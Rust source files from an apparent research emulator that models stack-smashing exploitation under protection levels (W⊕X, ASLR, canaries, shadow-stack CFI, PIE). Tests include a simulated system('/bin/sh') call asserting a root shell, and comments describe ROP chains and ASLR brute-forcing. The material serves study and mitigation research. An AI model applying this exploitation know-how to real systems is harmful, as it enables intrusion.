                Ok(None)
            }
        }
        LibcFn::Execlp => {
            // Variadic: file in arg0, then arg list until NULL. We only
            // need the file and the fact that arg1 terminates the list.
            match m.do_exec(args[0], None, "execlp", pc)? {
                Some(outcome) => Ok(Some(outcome)),
                None => {
                    do_return(m, ret, u32::MAX)?; // -1: ENOENT
                    Ok(None)
                }
            }
        }
        LibcFn::Execve => match m.do_exec(args[0], Some(args[1]), "execve", pc)? {
            Some(outcome) => Ok(Some(outcome)),
            None => {
                do_return(m, ret, u32::MAX)?;
                Ok(None)
            }
        },
        LibcFn::Exit => {
            let code = args[0] as i32;
            m.events.push(Event::ProcessExited { code });
            Ok(Some(RunOutcome::Exited(code)))
        }
        LibcFn::StackChkFail => Ok(Some(RunOutcome::Fault(Fault::CanarySmashed {
            found: args[0],
            expected: m.canary,
        }))),
    }
}

/// x86 Linux syscall dispatch (`int 0x80`).
pub(crate) fn syscall_x86(m: &mut Machine, pc: Addr) -> Result<Option<RunOutcome>, Fault> {
    use crate::X86Reg;
    let r = *m.regs.x86();
    let number = r.get(X86Reg::Eax);
    m.events.push(Event::Syscall { number });
    match number {
        1 => {
            let code = r.get(X86Reg::Ebx) as i32;
            m.events.push(Event::ProcessExited { code });
            Ok(Some(RunOutcome::Exited(code)))
        }
        11 => {
            let path = r.get(X86Reg::Ebx);
            let argv = r.get(X86Reg::Ecx);
            match m.do_exec(path, Some(argv), "execve", pc)? {
                Some(outcome) => Ok(Some(outcome)),
                None => {
                    m.regs.x86_mut().set(X86Reg::Eax, u32::MAX); // -ENOENT
                    Ok(None)
                }
            }
        }
        other => Err(Fault::UnknownSyscall { number: other, pc }),
    }
}

/// ARM EABI syscall dispatch (`svc #0`, number in `r7`).
pub(crate) fn syscall_arm(m: &mut Machine, pc: Addr) -> Result<Option<RunOutcome>, Fault> {
    use crate::regs::ArmReg;
    let r = *m.regs.arm();
    let number = r.get(ArmReg(7));
    m.events.push(Event::Syscall { number });
    match number {
        1 => {
            let code = r.get(ArmReg(0)) as i32;
            m.events.push(Event::ProcessExited { code });
            Ok(Some(RunOutcome::Exited(code)))
        }
        11 => {
            let path = r.get(ArmReg(0));
            let argv = r.get(ArmReg(1));
            match m.do_exec(path, Some(argv), "execve", pc)? {
                Some(outcome) => Ok(Some(outcome)),
                None => {
                    m.regs.arm_mut().set(ArmReg(0), u32::MAX);
                    Ok(None)
                }
            }
        }
        other => Err(Fault::UnknownSyscall { number: other, pc }),
    }
}

/// RISC-V Linux syscall dispatch (`ecall`, number in `a7`). Unlike the
/// legacy x86/ARM tables, riscv32-linux uses the generic numbers:
/// `exit` is 93 and `execve` is 221.
pub(crate) fn syscall_riscv(m: &mut Machine, pc: Addr) -> Result<Option<RunOutcome>, Fault> {
    use crate::regs::RiscvReg;
    let r = *m.regs.riscv();
    let number = r.get(RiscvReg::A7);
    m.events.push(Event::Syscall { number });
    match number {
        93 => {
            let code = r.get(RiscvReg::A0) as i32;
            m.events.push(Event::ProcessExited { code });
            Ok(Some(RunOutcome::Exited(code)))
        }
        221 => {
            let path = r.get(RiscvReg::A0);
            let argv = r.get(RiscvReg::A1);
            match m.do_exec(path, Some(argv), "execve", pc)? {
                Some(outcome) => Ok(Some(outcome)),
                None => {
                    m.regs.riscv_mut().set(RiscvReg::A0, u32::MAX);
                    Ok(None)
                }
            }
        }
        other => Err(Fault::UnknownSyscall { number: other, pc }),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use cml_image::{Perms, SectionKind};

    fn x86_machine() -> Machine {
        let mut m = Machine::new(Arch::X86);
        m.mem
            .map(".text", Some(SectionKind::Text), 0x1000, 0x100, Perms::RX);
        m.mem
            .map(".bss", Some(SectionKind::Bss), 0x3000, 0x100, Perms::RW);
        m.mem
            .map("libc", Some(SectionKind::Libc), 0x7000, 0x100, Perms::RX);
        m.mem
            .map("stack", Some(SectionKind::Stack), 0x8000, 0x1000, Perms::RW);
        m.regs.set_sp(0x8800);
        m
    }

    #[test]
    fn memcpy_hook_copies_and_returns() {
        let mut m = x86_machine();
        m.register_hook(0x7000, LibcFn::Memcpy);
        m.mem.poke(0x3000, b"X").unwrap();
        m.mem.write_bytes(0x3010, b"hi!", 0).unwrap();
        // Build cdecl frame: ret=0x1000, dest=0x3000, src=0x3010, n=3.
        for v in [3u32, 0x3010, 0x3000, 0x1000] {
            m.push_u32(v).unwrap();
        }
        m.regs.set_pc(0x7000);
        let out = m.step().unwrap();
        assert!(out.is_none());
        assert_eq!(m.regs().pc(), 0x1000);
        assert_eq!(m.mem().read_bytes(0x3000, 3, 0).unwrap(), b"hi!");
        // eax = dest per the C ABI.
        assert_eq!(m.regs().x86().get(crate::X86Reg::Eax), 0x3000);
    }

    #[test]
    fn memcpy_into_text_faults() {
        let mut m = x86_machine();
        m.register_hook(0x7000, LibcFn::Memcpy);
        for v in [1u32, 0x3000, 0x1000, 0x1000] {
            m.push_u32(v).unwrap();
        }
        m.regs.set_pc(0x7000);
        assert!(matches!(
            m.step(),
            Err(Fault::ProtectedWrite { addr: 0x1000, .. })
        ));
    }

    #[test]
    fn system_hook_spawns_shell() {
        let mut m = x86_machine();
        m.register_hook(0x7010, LibcFn::System);
        m.mem.write_bytes(0x3020, b"/bin/sh\0", 0).unwrap();
        for v in [0u32, 0x3020, 0xdead_0000] {
            m.push_u32(v).unwrap();
        }
        m.regs.set_pc(0x7010);
        let out = m.step().unwrap().expect("terminal");
        assert!(out.is_root_shell());
    }

    #[test]
    fn execlp_on_arm_uses_r0() {
        let mut m = Machine::new(Arch::Armv7);
        m.mem
            .map(".bss", Some(SectionKind::Bss), 0x3000, 0x100, Perms::RW);
        m.mem
            .map(".plt", Some(SectionKind::Plt), 0x1b000, 0x100, Perms::RX);
        m.mem.write_bytes(0x3004, b"sh\0", 0).unwrap();
        m.register_hook(0x1b2d0, LibcFn::Execlp);
        m.regs.arm_mut().set(crate::regs::ArmReg(0), 0x3004);
        m.regs.arm_mut().set(crate::regs::ArmReg(1), 0);
        m.regs.set_pc(0x1b2d0);
        let out = m.step().unwrap().expect("terminal");
        match out {
            RunOutcome::ShellSpawned(s) => {
                assert_eq!(s.program, "sh");
                assert_eq!(s.via, "execlp");
                assert!(s.is_root_shell());
            }
            other => panic!("unexpected {other}"),
        }
    }

    #[test]
    fn exit_hook_terminates() {
        let mut m = x86_machine();
        m.register_hook(0x7020, LibcFn::Exit);
        for v in [9u32, 0x0] {
            m.push_u32(v).unwrap();
        }
        m.regs.set_pc(0x7020);
        assert_eq!(m.step().unwrap(), Some(RunOutcome::Exited(9)));
    }

    #[test]
    fn stack_chk_fail_reports_canary() {
        let mut m = x86_machine();
        m.set_canary(0xAABB_CCDD);
        m.register_hook(0x7030, LibcFn::StackChkFail);
        for v in [0x4141_4141u32, 0x0] {
            m.push_u32(v).unwrap();
        }
        m.regs.set_pc(0x7030);
        let out = m.step().unwrap().expect("terminal");
        assert_eq!(
            out,
            RunOutcome::Fault(Fault::CanarySmashed {
                found: 0x4141_4141,
                expected: 0xAABB_CCDD
            })
        );
    }
}
