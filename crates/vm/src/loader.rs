//! Mapping an image into a machine under a protection policy.
//!
//! The loader is where the paper's three protection levels are realized:
//!
//! * **no protections** — sections keep their image permissions, so the
//!   stack stays `rwx` and injected code runs;
//! * **W⊕X** — the execute bit is stripped from every writable mapping;
//! * **W⊕X + ASLR** — additionally, the libc, stack and heap bases are
//!   slid by a random page-aligned offset each boot, while the non-PIE
//!   `.text`/`.plt`/`.got`/`.bss` stay fixed (which is precisely the
//!   residual attack surface the paper's ROP chains use).

use std::collections::HashMap;

use cml_image::{layout, Addr, Image, SectionKind};
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

use crate::hooks::LibcFn;
use crate::machine::Machine;

/// ASLR policy.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct AslrConfig {
    /// Whether randomization is applied at all.
    pub enabled: bool,
    /// Number of random bits in the page-aligned slide (compat 32-bit
    /// Linux defaults to 8; see [`layout::DEFAULT_ASLR_ENTROPY_BITS`]).
    pub entropy_bits: u32,
}

impl AslrConfig {
    /// ASLR disabled.
    pub fn disabled() -> Self {
        AslrConfig {
            enabled: false,
            entropy_bits: 0,
        }
    }

    /// ASLR at the default 32-bit entropy.
    pub fn default_on() -> Self {
        AslrConfig {
            enabled: true,
            entropy_bits: layout::DEFAULT_ASLR_ENTROPY_BITS,
        }
    }

    /// ASLR with explicit entropy (the brute-force experiment sweeps
    /// this).
    pub fn with_entropy(entropy_bits: u32) -> Self {
        AslrConfig {
            enabled: true,
            entropy_bits,
        }
    }
}

/// The full protection policy for one boot — the experiment matrix of the
/// paper varies exactly these.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Protections {
    /// Writable-xor-executable enforcement.
    pub wxorx: bool,
    /// Address-space layout randomization.
    pub aslr: AslrConfig,
    /// Per-frame stack canaries (disabled in all six paper PoCs, enabled
    /// in the mitigation experiments).
    pub stack_canary: bool,
    /// Shadow-stack CFI (paper §IV's suggested mitigation).
    pub cfi: bool,
    /// Position-independent executable: the program's own sections
    /// (`.text`/`.plt`/`.got`/`.bss`/…) slide together by a per-boot
    /// offset, removing the fixed-address surface the paper's ROP chains
    /// depend on (cf. §IV's software-diversity discussion).
    pub pie: bool,
}

impl Protections {
    /// Paper §III-A: everything off.
    pub fn none() -> Self {
        Protections {
            wxorx: false,
            aslr: AslrConfig::disabled(),
            stack_canary: false,
            cfi: false,
            pie: false,
        }
    }

    /// Paper §III-B: W⊕X only.
    pub fn wxorx() -> Self {
        Protections {
            aslr: AslrConfig::disabled(),
            wxorx: true,
            ..Protections::none()
        }
    }

    /// Paper §III-C: W⊕X + ASLR.
    pub fn full() -> Self {
        Protections {
            aslr: AslrConfig::default_on(),
            wxorx: true,
            ..Protections::none()
        }
    }

    /// Adds stack canaries to this policy.
    pub fn with_canary(mut self) -> Self {
        self.stack_canary = true;
        self
    }

    /// Adds shadow-stack CFI to this policy.
    pub fn with_cfi(mut self) -> Self {
        self.cfi = true;
        self
    }

    /// Builds the binary as position-independent (program sections slide
    /// per boot).
    pub fn with_pie(mut self) -> Self {
        self.pie = true;
        self
    }

    /// Short human-readable label ("none", "W^X", "W^X+ASLR", …).
    pub fn label(&self) -> String {
        let mut parts = Vec::new();
        if self.wxorx {
            parts.push("W^X");
        }
        if self.aslr.enabled {
            parts.push("ASLR");
        }
        if self.stack_canary {
            parts.push("canary");
        }
        if self.cfi {
            parts.push("CFI");
        }
        if self.pie {
            parts.push("PIE");
        }
        if parts.is_empty() {
            "none".to_string()
        } else {
            parts.join("+")
        }
    }
}

/// Where everything ended up after loading: per-section slides and the
/// runtime symbol table. The *attacker* is not given this for randomized
/// sections — exploits compute addresses from a reference boot, exactly
/// like the paper's gdb reconnaissance.
#[derive(Debug)]
pub struct LoadMap {
    slides: HashMap<SectionKind, i64>,
    symbols: HashMap<String, Addr>,
    stack_top: Addr,
    stack_size: u32,
    canary: u32,
}

impl Clone for LoadMap {
    fn clone(&self) -> Self {
        LoadMap {
            slides: self.slides.clone(),
            symbols: self.symbols.clone(),
            stack_top: self.stack_top,
            stack_size: self.stack_size,
            canary: self.canary,
        }
    }

    /// Snapshot-restore loops rewind a map millions of times between
    /// boots of the *same image*, where the symbol key set is invariant.
    /// When the key sets match, only the `Addr` values are rewritten —
    /// no `String` key is reallocated; any mismatch falls back to a full
    /// clone.
    fn clone_from(&mut self, src: &Self) {
        self.slides.clone_from(&src.slides);
        let mut matched = self.symbols.len() == src.symbols.len();
        if matched {
            for (name, addr) in &src.symbols {
                match self.symbols.get_mut(name) {
                    Some(slot) => *slot = *addr,
                    None => {
                        matched = false;
                        break;
                    }
                }
            }
        }
        if !matched {
            self.symbols.clone_from(&src.symbols);
        }
        self.stack_top = src.stack_top;
        self.stack_size = src.stack_size;
        self.canary = src.canary;
    }
}

impl LoadMap {
    /// The signed slide applied to a section kind (0 when not present or
    /// not randomized).
    pub fn slide(&self, kind: SectionKind) -> i64 {
        self.slides.get(&kind).copied().unwrap_or(0)
    }

    /// Runtime address of a symbol, after slides.
    pub fn symbol(&self, name: &str) -> Option<Addr> {
        self.symbols.get(name).copied()
    }

    /// All runtime symbols.
    pub fn symbols(&self) -> &HashMap<String, Addr> {
        &self.symbols
    }

    /// Runtime top of the stack mapping (exclusive).
    pub fn stack_top(&self) -> Addr {
        self.stack_top
    }

    /// Stack mapping size.
    pub fn stack_size(&self) -> u32 {
        self.stack_size
    }

    /// The per-boot canary value (the *defender's* secret; tests use it
    /// to verify canary behaviour, exploits must not).
    pub fn canary(&self) -> u32 {
        self.canary
    }
}

/// Loads [`Image`]s into fresh [`Machine`]s.
#[derive(Debug)]
pub struct Loader<'a> {
    image: &'a Image,
    protections: Protections,
    seed: u64,
}

/// The random choices of one boot. Computed by [`Loader::plan`] so that
/// [`Loader::load`] and [`Loader::reslide`] consume the seeded RNG in
/// exactly the same draw order and can never drift apart.
struct BootPlan {
    slides: HashMap<SectionKind, i64>,
    canary: u32,
}

impl<'a> Loader<'a> {
    /// Starts a loader for `image` with no protections and seed 0.
    pub fn new(image: &'a Image) -> Self {
        Loader {
            image,
            protections: Protections::none(),
            seed: 0,
        }
    }

    /// Sets the protection policy.
    pub fn protections(mut self, p: Protections) -> Self {
        self.protections = p;
        self
    }

    /// Sets the boot seed: every random choice (ASLR slides, canary) is a
    /// deterministic function of it, so experiments are reproducible.
    pub fn seed(mut self, seed: u64) -> Self {
        self.seed = seed;
        self
    }

    /// Draws every random choice of this boot in a fixed order:
    /// the PIE slide (when enabled), then one slide per section in image
    /// order, then the canary. Both [`Loader::load`] and
    /// [`Loader::reslide`] go through here.
    fn plan(&self) -> BootPlan {
        let mut rng = StdRng::seed_from_u64(self.seed);
        let p = self.protections;
        // PIE: all program sections share one slide so intra-binary
        // offsets stay valid (as a real PIE relocation does).
        let pie_slide: i64 = if p.pie {
            let bits = p
                .aslr
                .entropy_bits
                .clamp(layout::DEFAULT_ASLR_ENTROPY_BITS, 16);
            let span = (1u64 << bits).max(2);
            rng.gen_range(1..span) as i64 * layout::ASLR_PAGE as i64
        } else {
            0
        };
        let mut slides: HashMap<SectionKind, i64> = HashMap::new();
        for section in self.image.sections() {
            let kind = section.kind();
            let slide: i64 =
                if p.aslr.enabled && kind.randomized_by_aslr() && p.aslr.entropy_bits > 0 {
                    // Slides are 1..2^bits pages: the degenerate zero slide
                    // would silently equal an ASLR-off boot.
                    let span = (1u64 << p.aslr.entropy_bits.min(16)).max(2);
                    let pages = rng.gen_range(1..span) as i64;
                    // The stack slides down, mmap regions slide up; both stay
                    // clear of neighbouring sections for supported entropies.
                    if kind == SectionKind::Stack {
                        -pages * layout::ASLR_PAGE as i64
                    } else {
                        pages * layout::ASLR_PAGE as i64
                    }
                } else if !kind.randomized_by_aslr() {
                    pie_slide
                } else {
                    0
                };
            slides.insert(kind, slide);
        }
        let canary = if p.stack_canary {
            // Real glibc canaries keep a NUL low byte to stop string
            // overflows; ours does too.
            rng.gen::<u32>() & 0xFFFF_FF00
        } else {
            0
        };
        BootPlan { slides, canary }
    }

    /// Resolves runtime symbol addresses under `slides` and registers
    /// libc hooks at them.
    fn place_symbols(
        &self,
        machine: &mut Machine,
        slides: &HashMap<SectionKind, i64>,
    ) -> HashMap<String, Addr> {
        let mut symbols = HashMap::new();
        for sym in self.image.symbols() {
            let kind = self
                .image
                .section_containing(sym.addr())
                .map(|s| s.kind())
                .expect("image validated symbols");
            let slide = slides.get(&kind).copied().unwrap_or(0);
            let runtime = (sym.addr() as i64 + slide) as Addr;
            symbols.insert(sym.name().to_string(), runtime);
            let base_name = sym.name().strip_suffix("@plt").unwrap_or(sym.name());
            if let Some(f) = libc_fn_by_name(base_name) {
                machine.register_hook(runtime, f);
            }
        }
        symbols
    }

    /// Performs the load.
    ///
    /// # Panics
    ///
    /// Panics if the image's sections cannot be mapped (overlap after
    /// slides); the firmware layouts leave wide gaps precisely to make
    /// this impossible for the supported entropies.
    pub fn load(self) -> (Machine, LoadMap) {
        let plan = self.plan();
        let mut machine = Machine::new(self.image.arch());
        let p = self.protections;

        let mut stack_top = 0u32;
        let mut stack_size = 0u32;
        for section in self.image.sections() {
            let kind = section.kind();
            let slide = plan.slides.get(&kind).copied().unwrap_or(0);
            let base = (section.base() as i64 + slide) as Addr;
            let mut perms = section.perms();
            if p.wxorx && perms.writable() {
                perms = perms.without_exec();
            }
            machine
                .mem
                .map(kind.name(), Some(kind), base, section.size(), perms);
            if !section.bytes().is_empty() {
                machine
                    .mem
                    .poke(base, section.bytes())
                    .expect("mapped just above");
            }
            if kind == SectionKind::Stack {
                stack_top = (section.end() as i64 + slide) as Addr;
                stack_size = section.size();
            }
        }

        let symbols = self.place_symbols(&mut machine, &plan.slides);

        machine.set_canary(plan.canary);
        if p.cfi {
            machine.enable_cfi();
        }
        if stack_top != 0 {
            // Leave room for environment/auxv like a real process start.
            machine.regs_mut().set_sp(stack_top - 0x200);
        }

        let map = LoadMap {
            slides: plan.slides,
            symbols,
            stack_top,
            stack_size,
            canary: plan.canary,
        };
        (machine, map)
    }

    /// Re-randomizes an already-loaded `machine` in place to the layout a
    /// fresh [`Loader::load`] with this seed would produce: region bases
    /// move, hooks are re-registered at the slid symbol addresses, the
    /// canary and initial stack pointer are reset. Section *contents* are
    /// not re-poked — the firmware images are slide-independent (all
    /// in-image pokes are section-relative and libc calls resolve through
    /// pc-entry hooks, never absolute pointers), which is what makes the
    /// snapshot/fork boot path sound.
    ///
    /// The caller is expected to have restored a
    /// [`crate::MachineSnapshot`] of a boot of the *same image under the
    /// same protections* first; only the seed may differ.
    ///
    /// # Panics
    ///
    /// Panics (like `load`) if the slid sections would overlap.
    pub fn reslide(self, machine: &mut Machine) -> LoadMap {
        let mut map = LoadMap {
            slides: HashMap::new(),
            symbols: HashMap::new(),
            stack_top: 0,
            stack_size: 0,
            canary: 0,
        };
        self.reslide_into(machine, &mut map);
        map
    }

    /// [`Loader::reslide`] that updates an existing [`LoadMap`] in place.
    ///
    /// The symbol set of an image is fixed, so a fork-per-device loop can
    /// reuse the map's `String`-keyed table across forks: existing
    /// entries are overwritten through `get_mut` and only a map from a
    /// *different* image (or an empty one) pays for key allocation. This
    /// is the allocation-lean path fork-per-device drivers (the firmware
    /// crate's `BootForge::fork`) take millions of times per campaign.
    ///
    /// # Panics
    ///
    /// Panics (like `load`) if the slid sections would overlap.
    pub fn reslide_into(self, machine: &mut Machine, map: &mut LoadMap) {
        let plan = self.plan();

        let mut stack_top = 0u32;
        let mut stack_size = 0u32;
        let mut moves = Vec::new();
        for section in self.image.sections() {
            let kind = section.kind();
            let slide = plan.slides.get(&kind).copied().unwrap_or(0);
            let base = (section.base() as i64 + slide) as Addr;
            moves.push((kind, base));
            if kind == SectionKind::Stack {
                stack_top = (section.end() as i64 + slide) as Addr;
                stack_size = section.size();
            }
        }
        machine.mem.rebase_regions(&moves);

        machine.clear_hooks();
        for sym in self.image.symbols() {
            let kind = self
                .image
                .section_containing(sym.addr())
                .map(|s| s.kind())
                .expect("image validated symbols");
            let slide = plan.slides.get(&kind).copied().unwrap_or(0);
            let runtime = (sym.addr() as i64 + slide) as Addr;
            match map.symbols.get_mut(sym.name()) {
                Some(slot) => *slot = runtime,
                None => {
                    map.symbols.insert(sym.name().to_string(), runtime);
                }
            }
            let base_name = sym.name().strip_suffix("@plt").unwrap_or(sym.name());
            if let Some(f) = libc_fn_by_name(base_name) {
                machine.register_hook(runtime, f);
            }
        }

        machine.set_canary(plan.canary);
        if stack_top != 0 {
            machine.regs_mut().set_sp(stack_top - 0x200);
        }

        map.slides = plan.slides;
        map.stack_top = stack_top;
        map.stack_size = stack_size;
        map.canary = plan.canary;
    }
}

fn libc_fn_by_name(name: &str) -> Option<LibcFn> {
    LibcFn::ALL.into_iter().find(|f| f.name() == name)
}

#[cfg(test)]
mod tests {
    use super::*;
    use cml_image::{Arch, ImageBuilder, SymbolKind};

    fn image() -> Image {
        let l = layout::layout_for(Arch::X86);
        let mut b = ImageBuilder::new(Arch::X86);
        b.section_default(SectionKind::Text, l.text_base, 0x1000);
        b.section_default(SectionKind::Plt, l.plt_base, 0x100);
        b.section_default(SectionKind::Bss, l.bss_base, 0x100);
        b.section_default(SectionKind::Libc, l.libc_base, 0x2000);
        b.section_default(SectionKind::Stack, l.stack_top - l.stack_size, l.stack_size);
        b.append_code(SectionKind::Text, &[0x90, 0xC3]);
        b.append_code(SectionKind::Libc, &[0xC3; 16]);
        b.symbol("system", l.libc_base, 4, SymbolKind::LibcFunction);
        b.symbol("memcpy@plt", l.plt_base, 4, SymbolKind::PltEntry);
        b.build().unwrap()
    }

    #[test]
    fn no_protections_keeps_stack_executable() {
        let img = image();
        let (m, map) = Loader::new(&img).load();
        let stack = m.mem().region_containing(map.stack_top() - 4).unwrap();
        assert!(stack.perms().executable());
        assert_eq!(map.slide(SectionKind::Libc), 0);
    }

    #[test]
    fn wxorx_strips_exec_from_stack() {
        let img = image();
        let (m, map) = Loader::new(&img).protections(Protections::wxorx()).load();
        let stack = m.mem().region_containing(map.stack_top() - 4).unwrap();
        assert!(!stack.perms().executable());
        assert!(stack.perms().writable());
        // Text remains executable and non-writable.
        let text = m.mem().region_containing(0x0804_8000).unwrap();
        assert!(text.perms().executable() && !text.perms().writable());
    }

    #[test]
    fn aslr_slides_libc_and_stack_only() {
        let img = image();
        let (_, map) = Loader::new(&img)
            .protections(Protections::full())
            .seed(1234)
            .load();
        assert_eq!(map.slide(SectionKind::Text), 0);
        assert_eq!(map.slide(SectionKind::Bss), 0);
        assert_ne!(map.slide(SectionKind::Libc), 0);
        assert!(map.slide(SectionKind::Stack) <= 0);
        // Symbol table reflects the slide.
        let sys = map.symbol("system").unwrap();
        assert_eq!(sys as i64, 0xb750_0000i64 + map.slide(SectionKind::Libc));
    }

    #[test]
    fn aslr_differs_between_boots_and_repeats_with_seed() {
        let img = image();
        let s = |seed| {
            Loader::new(&img)
                .protections(Protections::full())
                .seed(seed)
                .load()
                .1
                .slide(SectionKind::Libc)
        };
        assert_eq!(s(7), s(7), "same seed, same layout");
        let distinct: std::collections::HashSet<i64> = (0..16).map(s).collect();
        assert!(distinct.len() > 4, "slides vary across boots: {distinct:?}");
    }

    #[test]
    fn hooks_registered_at_runtime_addresses() {
        let img = image();
        let (m, map) = Loader::new(&img)
            .protections(Protections::full())
            .seed(99)
            .load();
        let sys = map.symbol("system").unwrap();
        assert_eq!(m.hook_at(sys), Some(LibcFn::System));
        // PLT entry is at a *fixed* address.
        assert_eq!(
            m.hook_at(map.symbol("memcpy@plt").unwrap()),
            Some(LibcFn::Memcpy)
        );
        assert_eq!(map.symbol("memcpy@plt").unwrap(), 0x0805_2000);
    }

    #[test]
    fn canary_and_cfi_flags() {
        let img = image();
        let (m, map) = Loader::new(&img)
            .protections(Protections::full().with_canary().with_cfi())
            .seed(5)
            .load();
        assert!(m.cfi_enabled());
        assert_eq!(map.canary() & 0xFF, 0, "canary has NUL low byte");
        assert_eq!(m.canary(), map.canary());
        assert_ne!(map.canary(), 0);
    }

    #[test]
    fn labels() {
        assert_eq!(Protections::none().label(), "none");
        assert_eq!(Protections::wxorx().label(), "W^X");
        assert_eq!(Protections::full().label(), "W^X+ASLR");
        assert_eq!(Protections::full().with_cfi().label(), "W^X+ASLR+CFI");
    }

    #[test]
    fn sp_initialized_below_stack_top() {
        let img = image();
        let (m, map) = Loader::new(&img).load();
        assert_eq!(m.regs().sp(), map.stack_top() - 0x200);
    }

    #[test]
    fn reslide_matches_fresh_load() {
        let img = image();
        let p = Protections::full().with_canary();
        // Boot under seed 7, then reslide the same machine to seed 21.
        let (mut m, _) = Loader::new(&img).protections(p).seed(7).load();
        let map = Loader::new(&img).protections(p).seed(21).reslide(&mut m);
        // A fresh boot under seed 21 must agree on everything observable.
        let (fresh, fresh_map) = Loader::new(&img).protections(p).seed(21).load();
        assert_eq!(
            map.slide(SectionKind::Libc),
            fresh_map.slide(SectionKind::Libc)
        );
        assert_eq!(
            map.slide(SectionKind::Stack),
            fresh_map.slide(SectionKind::Stack)
        );
        assert_eq!(map.stack_top(), fresh_map.stack_top());
        assert_eq!(map.canary(), fresh_map.canary());
        assert_eq!(m.canary(), fresh.canary());
        assert_eq!(m.regs().sp(), fresh.regs().sp());
        for (name, addr) in fresh_map.symbols() {
            assert_eq!(map.symbol(name), Some(*addr), "symbol {name}");
        }
        let sys = map.symbol("system").unwrap();
        assert_eq!(m.hook_at(sys), Some(LibcFn::System));
        // Old-layout hook addresses are gone.
        let (_, old_map) = Loader::new(&img).protections(p).seed(7).load();
        let old_sys = old_map.symbol("system").unwrap();
        if old_sys != sys {
            assert_eq!(m.hook_at(old_sys), None);
        }
        // Region contents followed their section: the libc bytes live at
        // the new base.
        let b = m.mem().read_bytes(sys, 4, 0).unwrap();
        let fb = fresh.mem().read_bytes(sys, 4, 0).unwrap();
        assert_eq!(b, fb);
    }
}

#[cfg(test)]
mod pie_tests {
    use super::*;
    use cml_image::{Arch, ImageBuilder, SymbolKind};

    fn image() -> Image {
        let l = layout::layout_for(Arch::Armv7);
        let mut b = ImageBuilder::new(Arch::Armv7);
        b.section_default(SectionKind::Text, l.text_base, 0x1000);
        b.section_default(SectionKind::Plt, l.plt_base, 0x100);
        b.section_default(SectionKind::Bss, l.bss_base, 0x100);
        b.section_default(SectionKind::Libc, l.libc_base, 0x2000);
        b.section_default(SectionKind::Stack, l.stack_top - l.stack_size, l.stack_size);
        b.symbol("memcpy@plt", l.plt_base, 4, SymbolKind::PltEntry);
        b.symbol("memcpy", l.libc_base, 4, SymbolKind::LibcFunction);
        b.build().unwrap()
    }

    #[test]
    fn pie_slides_program_sections_together() {
        let img = image();
        let (m, map) = Loader::new(&img)
            .protections(Protections::full().with_pie())
            .seed(77)
            .load();
        let text = map.slide(SectionKind::Text);
        assert_ne!(text, 0, "pie must move .text");
        assert_eq!(map.slide(SectionKind::Plt), text, "one common slide");
        assert_eq!(map.slide(SectionKind::Bss), text);
        // The hook sits at the *slid* PLT address, not the link address.
        let plt = map.symbol("memcpy@plt").unwrap();
        assert_eq!(m.hook_at(plt), Some(LibcFn::Memcpy));
        assert_ne!(plt, layout::layout_for(Arch::Armv7).plt_base);
    }

    #[test]
    fn pie_slides_differ_per_boot_and_repeat_per_seed() {
        let img = image();
        let s = |seed| {
            Loader::new(&img)
                .protections(Protections::full().with_pie())
                .seed(seed)
                .load()
                .1
                .slide(SectionKind::Text)
        };
        assert_eq!(s(3), s(3));
        let distinct: std::collections::HashSet<i64> = (0..12).map(s).collect();
        assert!(distinct.len() > 3, "{distinct:?}");
    }

    #[test]
    fn without_pie_program_sections_stay_fixed() {
        let img = image();
        let (_, map) = Loader::new(&img)
            .protections(Protections::full())
            .seed(77)
            .load();
        assert_eq!(map.slide(SectionKind::Text), 0);
        assert_eq!(map.slide(SectionKind::Plt), 0);
    }

    #[test]
    fn pie_label() {
        assert_eq!(Protections::full().with_pie().label(), "W^X+ASLR+PIE");
    }
}
