//! Machine faults — the simulation's SIGSEGV/SIGILL analogues.

use std::error::Error;
use std::fmt;

use cml_image::{Addr, Perms};

/// A hardware-level fault that terminates execution.
///
/// Faults carry enough context for the debugger to produce the kind of
/// report the paper extracted from `gdb` (most importantly the faulting
/// program counter, which cyclic-pattern offset discovery relies on).
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub enum Fault {
    /// Read from an address no region covers.
    UnmappedRead {
        /// Faulting address.
        addr: Addr,
        /// Program counter at the time.
        pc: Addr,
    },
    /// Write to an address no region covers.
    UnmappedWrite {
        /// Faulting address.
        addr: Addr,
        /// Program counter at the time.
        pc: Addr,
    },
    /// Instruction fetch from an address no region covers — the signature
    /// of a smashed return address pointing into nowhere.
    UnmappedFetch {
        /// The bogus program counter.
        pc: Addr,
    },
    /// Read denied by region permissions.
    ProtectedRead {
        /// Faulting address.
        addr: Addr,
        /// The region's permissions.
        perms: Perms,
        /// Program counter at the time.
        pc: Addr,
    },
    /// Write denied by region permissions.
    ProtectedWrite {
        /// Faulting address.
        addr: Addr,
        /// The region's permissions.
        perms: Perms,
        /// Program counter at the time.
        pc: Addr,
    },
    /// Instruction fetch denied by permissions — W⊕X stopping injected
    /// code on the stack.
    NxViolation {
        /// The program counter that landed in non-executable memory.
        pc: Addr,
        /// The region's permissions.
        perms: Perms,
    },
    /// Bytes at `pc` did not decode to a supported instruction.
    IllegalInstruction {
        /// Program counter.
        pc: Addr,
        /// Up to four raw bytes at the program counter.
        bytes: [u8; 4],
    },
    /// ARM-state fetch from a non-4-byte-aligned address.
    UnalignedFetch {
        /// The misaligned program counter.
        pc: Addr,
    },
    /// A system call with an unsupported number.
    UnknownSyscall {
        /// The syscall number.
        number: u32,
        /// Program counter of the trap instruction.
        pc: Addr,
    },
    /// The shadow-stack CFI check rejected a return.
    CfiViolation {
        /// Address the return tried to reach.
        target: Addr,
        /// Address the shadow stack expected (`None` = underflow).
        expected: Option<Addr>,
        /// Program counter of the return instruction.
        pc: Addr,
    },
    /// The per-frame stack canary was corrupted (`__stack_chk_fail`).
    CanarySmashed {
        /// Value found in the canary slot.
        found: u32,
        /// Value planted at frame entry.
        expected: u32,
    },
    /// Execution exceeded the configured step budget (used to convert
    /// runaway loops into a deterministic outcome).
    StepLimit {
        /// The budget that was exhausted.
        limit: u64,
    },
    /// The shadow-memory sanitizer absorbed writes past the end of a
    /// protected buffer (ASan-style redzone detection). Unlike a raw
    /// segfault this pinpoints the overflowed buffer and the overwrite
    /// extent, not just the eventual bad access.
    RedzoneViolation {
        /// Base address of the overflowed buffer.
        buffer: Addr,
        /// Declared buffer capacity in bytes.
        capacity: u32,
        /// First out-of-bounds address written.
        first: Addr,
